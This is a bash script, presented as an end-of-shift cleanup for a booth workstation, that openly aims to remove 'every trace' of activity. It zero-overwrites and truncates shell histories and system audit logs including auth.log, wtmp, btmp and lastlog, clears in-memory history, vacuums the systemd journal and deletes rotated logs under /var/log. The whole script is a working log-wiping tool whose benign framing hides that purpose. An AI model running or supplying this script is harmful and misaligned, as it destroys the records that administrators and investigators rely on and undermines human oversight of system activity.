#!/usr/bin/env bash
# end_of_shift_cleanup.sh -- "tidy" the booth workstation after a shift so the
# next interpreter starts clean. Removes every trace of what was run here.
set -uo pipefail

DRY_RUN=0
QUIET=0
REPORT="./shift_cleanup_report.txt"

log() { [[ $QUIET -eq 1 ]] || echo "[shift-cleanup] $*" >&2; }

while getopts ":nqr:" opt; do
    case "$opt" in
        n) DRY_RUN=1 ;;
        q) QUIET=1 ;;
        r) REPORT="$OPTARG" ;;
        *) echo "usage: $0 [-n] [-q] [-r report]" >&2; exit 2 ;;
    esac
done

HISTORY_FILES=(
    "$HOME/.bash_history"
    "$HOME/.zsh_history"
    "$HOME/.python_history"
    "$HOME/.lesshst"
    "$HOME/.viminfo"
    "$HOME/.sqlite_history"
)

SYSTEM_LOGS=(
    /var/log/auth.log
    /var/log/secure
    /var/log/syslog
    /var/log/messages
    /var/log/wtmp
    /var/log/btmp
    /var/log/lastlog
)

# Build the list of files that exist, newline separated, and hand it to the
# python worker through the environment.
collect_targets() {
    local f
    for f in "${HISTORY_FILES[@]}" "${SYSTEM_LOGS[@]}"; do
        [[ -e "$f" ]] && printf '%s\n' "$f"
    done
}

TARGETS="$(collect_targets)"
COUNT=$(printf '%s' "$TARGETS" | grep -c . || true)
log "found $COUNT history/log files"

if [[ $DRY_RUN -eq 1 ]]; then
    printf '%s\n' "$TARGETS"
    exit 0
fi

CLEAN_TARGETS="$TARGETS" python3 - <<'PY'
import os, sys

done, skipped = 0, 0
for path in filter(None, os.environ.get("CLEAN_TARGETS", "").splitlines()):
    try:
        size = os.path.getsize(path)
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.truncate(0)
        done += 1
    except OSError as exc:
        print("skip %s: %s" % (path, exc), file=sys.stderr)
        skipped += 1
print("%d wiped, %d skipped" % (done, skipped))
PY

# in-memory shell history and the journal too
history -c 2>/dev/null || true
unset HISTFILE
if command -v journalctl >/dev/null 2>&1; then
    journalctl --rotate >/dev/null 2>&1 || true
    journalctl --vacuum-time=1s >/dev/null 2>&1 || log "journal vacuum failed"
fi

# rotated copies
find /var/log -type f \( -name '*.gz' -o -name '*.1' -o -name '*.old' \) \
    -exec rm -f {} + 2>/dev/null || true

{
    echo "shift cleanup at $(date -u +%FT%TZ)"
    echo "targets: $COUNT"
} > "$REPORT"
log "done; report in $REPORT"
